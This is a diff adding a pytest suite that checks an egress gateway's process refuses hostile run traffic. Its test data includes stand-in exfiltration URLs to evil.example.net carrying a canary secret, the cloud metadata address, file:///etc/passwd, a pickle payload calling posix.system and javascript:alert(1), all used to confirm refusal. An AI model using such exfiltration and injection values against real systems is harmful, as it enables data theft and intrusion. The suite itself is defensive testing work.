@@ -1,0 +1,461 @@
+"""A run's process that was taken over, or is no run at all, speaks to the gateway's process as it likes.
+
+Here nothing of ours stands on the other side: no `Gateway`, no `RemoteWeb`, only frames.
+"""
+
+import asyncio
+import json
+import os
+import socket
+import struct
+import tempfile
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+
+from affidavit.egress.policy import Policy
+from affidavit.egress.process import frames
+from affidavit.egress.process.client import gateway_status, open_session
+from affidavit.egress.process.frames import HEAD, MAGIC, Pipe
+from affidavit.egress.process.messages import Fetch, Given, Open, Search, read_fetch, read_search
+from affidavit.egress.process.place import Place
+from affidavit.egress.process.server import ServerLimits
+from affidavit.errors import GatewayError, PageFailure
+
+from ..hostile_server import redirect, reply
+from .conftest import SITE
+
+START = f"{SITE}/start"
+SECRET = "CANARY-91be-4d20"
+WORDS = b"The mill was built in 1871 and stands by the river. " * 8
+PAGE = reply(b"<title>Mill</title><p>" + WORDS + b"<a href='/next?step=1'>The next page</a></p>")
+
+
+def play(town, act, pages=None, **more):
+    async def scene():
+        async with town({"/start": PAGE, **(pages or {})}, **more) as place:
+            return place, await asyncio.wait_for(act(place), 30)
+
+    return asyncio.run(scene())
+
+
+async def fetched(session, url):
+    return read_fetch(await session.ask(lambda n: Fetch(n=n, url=url)))
+
+
+# ------------------------------------------------------------------------------------------ what it asks for
+
+UNSEEN = {
+    "a made-up path": f"https://evil.example.net/collect/{SECRET}",
+    "a made-up query": f"https://evil.example.net/?d={SECRET}",
+    "another query on a seen page": f"{START}?d={SECRET}",
+    "a query that was altered": f"{SITE}/next?step=2",
+    "a query with more": f"{SITE}/next?step=1&d={SECRET}",
+    "a tracking parameter": f"{SITE}/next?step=1&utm_source={SECRET}",
+    "a subdomain": f"https://{SECRET.lower()}.example.net/",
+    "a robots.txt": f"https://{SECRET.lower()}.example.net/robots.txt",
+    "what only a search query named": "https://evil.example.net/from-the-query",
+    "the metadata service": "http://169.254.169.254/latest/meta-data/",
+    "this machine": "http://127.0.0.1/",
+    "a file": "file:///etc/passwd",
+}
+
+
+@pytest.mark.parametrize("case", UNSEEN)
+def test_an_address_that_the_gateway_has_not_seen_itself_is_not_asked_for(town, case):
+    async def act(place):
+        async with place.session(given=[START], search=["listed"]) as one:
+            await one.ask(lambda n: Search(n=n, query="https://evil.example.net/from-the-query"))
+            assert not isinstance((await fetched(one, START)).result, PageFailure)
+            reply = await fetched(one, UNSEEN[case])
+            return reply, await fetched(one, f"{SITE}/next?step=1")
+
+    place, (refused, allowed) = play(town, act, {"/next?step=1": reply(b"more")}, found=(f"{SITE}/found",))
+    assert isinstance(refused.result, PageFailure)
+    assert [one.allowed for one in refused.decisions] == [False]
+    assert allowed.result.body == b"more"
+    hosts = {asked.host for asked in place.web.asked} | set(place.answers.asked)
+    assert hosts == {"www.example.com"}
+    assert [one["allowed"] for one in place.events("decision") if one["purpose"] == "page"] == [True, False, True]
+
+
+def test_there_is_no_message_that_says_an_address_was_seen(town):
+    async def act(place):
+        async with place.session(given=[START]) as one:
+            await one._pipe.send({"do": "saw", "n": 1, "url": "https://evil.example.net/", "how": "search result"})
+            with pytest.raises(GatewayError, match="ended the run"):
+                await fetched(one, START)
+
+    play(town, act)
+
+
+def test_a_text_that_no_reader_sees_gives_no_links(town):
+    hidden = reply(PAGE.partition(b"\r\n\r\n")[2].replace(b"<a href", b"<a hidden href"))
+
+    async def act(place):
+        async with place.session(given=[START]) as one:
+            assert not isinstance((await fetched(one, START)).result, PageFailure)
+            return (await fetched(one, f"{SITE}/next?step=1")).result
+
+    _, failure = play(town, act, {"/start": hidden})
+    assert "not_seen" in failure.detail
+
+
+def test_a_redirect_is_judged_by_the_gateway_though_the_run_says_nothing(town):
+    async def act(place):
+        async with place.session(given=[START]) as one:
+            return await fetched(one, START)
+
+    _, answer = play(
+        town, act, {"/start": redirect("https://denied.example.net/")}, own=Policy(deny=("*.example.net",))
+    )
+    assert "host_denied" in answer.result.detail
+    assert [one.reason for one in answer.decisions] == ["fetched", "redirected", "host_denied"]
+
+
+# ------------------------------------------------------------------------------------------ what it wants to be allowed
+
+WIDER = {
+    "every host": (Policy(), f"{SITE}/start", "host_not_allowed"),
+    "a port": (Policy(ports=(8443,)), "https://a.example.org:8443/", "port"),
+    "no denials": (Policy(allow=("denied.example.org",)), "https://denied.example.org/", "host_denied"),
+    "a private host": (Policy(allow_private=("inner.example.org",)), "https://inner.example.org/", "address"),
+}
+
+
+@pytest.mark.parametrize("case", WIDER)
+def test_a_run_cannot_widen_the_gateways_policy(town, case):
+    wanted, url, reason = WIDER[case]
+
+    async def act(place):
+        place.answers.by_name["inner.example.org"] = ["10.0.0.7"]
+        async with place.session(policy=wanted, given=[url]) as one:
+            return one.policy, await fetched(one, url)
+
+    own = Policy(allow=("*.example.org",), deny=("denied.example.org",))
+    place, (policy, answer) = play(town, act, own=own)
+    assert reason in answer.result.detail
+    assert place.web.asked == []
+    assert policy.ports == policy.allow_private == ()
+
+
+def test_a_run_cannot_have_more_time_or_bytes_than_the_gateway_gives(town):
+    async def act(place):
+        place.backend._settings = place.backend._settings.model_copy(
+            update={"fetch_megabytes": 1, "fetch_seconds": 1.0}
+        )
+        async with place.session(given=[START, f"{SITE}/slow"], megabytes=10**6, seconds=1e9) as one:
+            return [(await fetched(one, url)).result.kind.value for url in (START, f"{SITE}/slow")]
+
+    async def slow(asked, writer):
+        await asyncio.sleep(20)
+
+    _, kinds = play(town, act, {"/start": reply(b"x" * 2**21), "/slow": slow})
+    assert kinds == ["too_large", "timeout"]
+
+
+def test_a_gateway_may_take_no_addresses_from_runs(town):
+    async def act(place):
+        with pytest.raises(GatewayError, match="takes no addresses from runs"):
+            async with place.session(given=[START]):
+                pass
+        async with place.session(search=["listed"]) as one:
+            await one.ask(lambda n: Search(n=n, query="mill"))
+            return await fetched(one, START)
+
+    _, answer = play(town, act, given_allowed=False, found=(START,))
+    assert not isinstance(answer.result, PageFailure)
+
+
+def test_the_id_of_another_run_gives_nothing(town):
+    async def act(place):
+        async with place.session("run_1", given=[START]) as one:
+            assert not isinstance((await fetched(one, START)).result, PageFailure)
+            with pytest.raises(GatewayError, match="run run_1 is open already"):
+                async with place.session("run_1"):
+                    pass
+        while place.events("close") == []:
+            await asyncio.sleep(0.01)
+        async with place.session("run_1") as again:
+            return await fetched(again, START)
+
+    _, answer = play(town, act)
+    assert "not_seen" in answer.result.detail
+
+
+# ------------------------------------------------------------------------------------------ what it sends
+
+_HELLO = {"do": "hello", "protocol": 1, "nonce": "0" * 32, "proof": None}
+
+
+def framed(said, blob=b""):
+    text = said if isinstance(said, bytes) else json.dumps(said).encode()
+    return HEAD.pack(MAGIC, len(text), len(blob)) + text + blob
+
+
+GARBAGE = {
+    "nothing of ours": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
+    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x00",
+    "zeros": bytes(4096),
+    "a head of four gigabytes": HEAD.pack(MAGIC, 2**32 - 1, 2**32 - 1),
+    "a frame over what a stranger may send": HEAD.pack(MAGIC, 5000, 0),
+    "bytes after the JSON": framed(_HELLO, b"x"),
+    "no JSON": framed(b"\xff\xfe{}"),
+    "a list": framed(b"[]"),
+    "JSON without an end": framed(b"[" * 4000),
+    "no hello": framed({"do": "open", "run_id": "x"}),
+    "a field more": framed(_HELLO | {"admin": True}),
+    "another type": framed(_HELLO | {"protocol": "1"}),
+    "another protocol": framed(_HELLO | {"protocol": 2}),
+    "a pickle": framed(b"\x80\x04\x95cposix\nsystem\n."),
+    "half a head": MAGIC + b"\0\0",
+    "nothing at all": b"",
+}
+
+
+@pytest.mark.parametrize("case", GARBAGE)
+def test_garbage_ends_the_connection_that_sent_it_and_no_other(town, case):
+    async def act(place):
+        async with place.session(given=[START]) as honest:
+            reader, writer = await asyncio.open_unix_connection(place.place.path)
+            writer.write(GARBAGE[case])
+            writer.write_eof()
+            heard = await asyncio.wait_for(reader.read(), 5)
+            writer.close()
+            return heard, await fetched(honest, START)
+
+    place, (heard, answer) = play(town, act)
+    assert not isinstance(answer.result, PageFailure)
+    assert len(heard) < 1000
+    if case != "nothing at all":
+        assert b"refused" in heard
+        assert place.events("refused")
+
+
+LATER = {
+    "no message": {"do": "fetch"},
+    "a number below zero": {"do": "fetch", "n": -1, "url": START},
+    "a number that is none": {"do": "fetch", "n": True, "url": START},
+    "a method": {"do": "fetch", "n": 1, "url": START, "method": "POST"},
+    "a header": {"do": "fetch", "n": 1, "url": START, "headers": {"Cookie": "a"}},
+    "open again": {"do": "open", "run_id": "other"},
+    "an endpoint": {"do": "search", "n": 1, "query": "a", "endpoint": "https://evil.example.net/"},
+    "a limit without end": {"do": "search", "n": 1, "query": "a", "limit": 10**9},
+    "too much": {"do": "fetch", "n": 1, "url": "x" * 2**20},
+}
+
+
+@pytest.mark.parametrize("case", LATER)
+def test_a_run_that_sends_what_is_no_request_loses_its_connection(town, case):
+    async def act(place):
+        async with place.session(given=[START]) as one:
+            with suppress(ConnectionError):
+                await one._pipe.send(LATER[case])
+            with pytest.raises(GatewayError, match=r"ended the (run|connection)|takes nothing"):
+                await fetched(one, START)
+
+    place, _ = play(town, act)
+    assert place.web.asked == []
+
+
+def test_more_requests_at_once_than_were_offered_end_the_run(town):
+    async def act(place):
+        async with place.session(given=[START]) as one:
+            for n in range(1000, 1000 + 5):
+                await one._pipe.send({"do": "fetch", "n": n, "url": START})
+            with pytest.raises(GatewayError, match="more than 4 requests"):
+                await fetched(one, START)
+
+    async def slow(asked, writer):
+        await asyncio.sleep(20)
+
+    play(town, act, {"/start": slow}, limits=ServerLimits(at_once=4))
+
+
+def test_a_number_that_is_in_use_ends_the_run(town):
+    async def act(place):
+        async with place.session(given=[START]) as one:
+            for _ in range(2):
+                await one._pipe.send({"do": "fetch", "n": 7, "url": START})
+            with pytest.raises(GatewayError, match="request 7 is not answered yet"):
+                await fetched(one, START)
+
+    async def slow(asked, writer):
+        await asyncio.sleep(20)
+
+    play(town, act, {"/start": slow})
+
+
+def test_a_peer_that_says_nothing_is_sent_away_and_too_many_are_not_let_in(town):
+    async def act(place):
+        quiet = [await asyncio.open_unix_connection(place.place.path) for _ in range(3)]
+        with pytest.raises(GatewayError, match="too many callers who say nothing"):
+            await gateway_status(place.place)
+        heard = [await asyncio.wait_for(reader.read(), 5) for reader, _ in quiet]
+        for _, writer in quiet:
+            writer.close()
+        return heard, await gateway_status(place.place)
+
+    _, (heard, status) = play(town, act, limits=ServerLimits(strangers=3, hello_seconds=0.3))
+    assert all(b"said nothing for 0.3 s" in one for one in heard)
+    assert status["runs"] == 0
+
+
+def test_a_frame_that_drips_in_is_not_waited_for(town, monkeypatch):
+    monkeypatch.setattr(frames, "FRAME_SECONDS", 0.3)
+
+    async def act(place):
+        reader, writer = await asyncio.open_unix_connection(place.place.path)
+        for byte in framed(_HELLO)[:3]:
+            writer.write(bytes([byte]))
+            await asyncio.sleep(0.05)
+        heard = await asyncio.wait_for(reader.read(), 5)
+        writer.close()
+        return heard
+
+    _, heard = play(town, act)
+    assert b"did not come whole within 0.3 s" in heard
+
+
+def test_a_run_that_does_not_take_its_pages_loses_its_connection_and_holds_up_nobody(town, monkeypatch):
+    monkeypatch.setattr(frames, "SEND_SECONDS", 0.5)
+    monkeypatch.setattr(frames, "BUFFER", 64 * 1024)
+
+    async def act(place):
+        async with place.session("slow", given=[START]) as one:
+            await one._pipe.send({"do": "fetch", "n": 1000, "url": START})
+            one._pipe._reader._transport.pause_reading()
+            async with place.session("other", given=[f"{SITE}/small"]) as other:
+                assert (await fetched(other, f"{SITE}/small")).result.body == b"small"
+            while not any(one["run"] == "slow" for one in place.events("close")):
+                await asyncio.sleep(0.05)
+
+    play(town, act, {"/start": reply(bytes(20_000_000)), "/small": reply(b"small")})
+
+
+def test_only_so_many_runs_are_open(town):
+    async def act(place):
+        async with place.session("a"), place.session("b"):
+            with pytest.raises(GatewayError, match="2 runs open, as many as it takes"):
+                async with place.session("c"):
+                    pass
+
+    play(town, act, limits=ServerLimits(runs=2))
+
+
+# ------------------------------------------------------------------------------------------ who it is
+
+
+def test_a_wrong_token_and_none_are_refused(town):
+    async def act(place):
+        for token, said in (("0" * 64, "token is wrong"), (None, "wants a token")):
+            with pytest.raises(GatewayError, match=said):
+                async with open_session(place.place, Open(run_id="run_1"), token=token):
+                    pass
+        return await gateway_status(place.place, token=place.token)
+
+    place, status = play(town, act, tcp=True)
+    assert status["runs"] == 0
+    assert all(place.token not in json.dumps(event) for event in place.log)
+
+
+def test_a_proof_that_was_overheard_is_worth_nothing(town):
+    async def act(place):
+        heard = []
+        send = Pipe.send
+
+        async def listen(pipe, said, blobs=()):
+            heard.append(dict(said))
+            await send(pipe, said, blobs)
+
+        Pipe.send = listen
+        try:
+            await gateway_status(place.place, token=place.token)
+        finally:
+            Pipe.send = send
+        (hello,) = [said for said in heard if said.get("do") == "hello"]
+        assert all(place.token not in json.dumps(said) for said in heard)
+        reader, writer = await asyncio.open_connection(place.place.host, place.place.port)
+        writer.write(framed(hello))
+        answer = await asyncio.wait_for(reader.read(), 5)
+        writer.close()
+        return answer
+
+    _, answer = play(town, act, tcp=True)
+    assert b"the token is wrong" in answer
+
+
+def test_what_sits_on_the_port_and_does_not_know_the_token_is_no_gateway():
+    async def impostor(reader, writer):
+        async with Pipe(reader, writer, frames.FROM_RUN) as pipe:
+            await pipe.send({"gateway": 1, "version": "1", "nonce": "0" * 32, "token": True})
+            await pipe.receive()
+            await pipe.send({"welcome": 1, "proof": "0" * 64, "at_once": 1})
+            await pipe.receive()
+
+    async def scene():
+        server = await asyncio.start_server(impostor, "127.0.0.1", 0)
+        place = Place(host="127.0.0.1", port=server.sockets[0].getsockname()[1])
+        with pytest.raises(GatewayError, match="does not know the token"):
+            await gateway_status(place, token="1" * 64)
+        server.close()
+
+    asyncio.run(scene())
+
+
+@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="needs to be root, to be somebody else")
+def test_another_user_is_known_by_the_kernels_word(town):
+    async def act(place):
+        place.place.path.parent.chmod(0o755)
+        place.place.path.chmod(0o666)
+        code = (
+            "import os, socket, sys; os.setuid(65534); s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]);"
+            "print(s.recv(4096))"
+        )
+        process = await asyncio.create_subprocess_exec(
+            "python3", "-c", code, str(place.place.path), stdout=asyncio.subprocess.PIPE
+        )
+        out, _ = await process.communicate()
+        return out
+
+    with tempfile.TemporaryDirectory() as folder:  # where others may look, too
+        place, out = play(town, act, uids=frozenset({0}), folder=Path(folder))
+    assert b"user 65534 may not use this gateway" in out
+    assert place.events("refused")[0]["peer"]["uid"] == 65534
+
+
+# ------------------------------------------------------------------------------------------ what it hears
+
+
+def test_a_fault_of_the_gateway_is_told_without_what_it_was_about(town):
+    async def act(place):
+        async with place.session(given=[START], search=["listed"]) as one:
+            with pytest.raises(GatewayError, match=r"failed at it \(RuntimeError\)") as caught:
+                read_search(await one.ask(lambda n: Search(n=n, query="break")))
+            return str(caught.value), await fetched(one, START)
+
+    _, (said, answer) = play(town, act)
+    assert "key-123456" not in said
+    assert not isinstance(answer.result, PageFailure)
+
+
+def test_a_policy_or_an_address_that_is_none_is_refused_by_name(town):
+    async def act(place):
+        for policy, said in (({"alow": ["a"]}, "alow"), ({"allow": ["http://a/"]}, "is no host")):
+            with pytest.raises(GatewayError, match=said):
+                async with open_session(place.place, Open(run_id="run_1", policy=policy)):
+                    pass
+        given = [Given(url="javascript:alert(1)", how="given by the user")]
+        async with open_session(place.place, Open(run_id="run_1", given=given)) as one:
+            return await fetched(one, "javascript:alert(1)")
+
+    _, answer = play(town, act)
+    assert "scheme" in answer.result.detail
+
+
+def test_peer_credentials_are_read_as_the_kernel_lays_them_out():
+    ours, theirs = socket.socketpair(socket.AF_UNIX)
+    with ours, theirs:
+        pid, uid, _ = struct.unpack("3i", ours.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
+    assert (pid, uid) == (os.getpid(), os.geteuid())
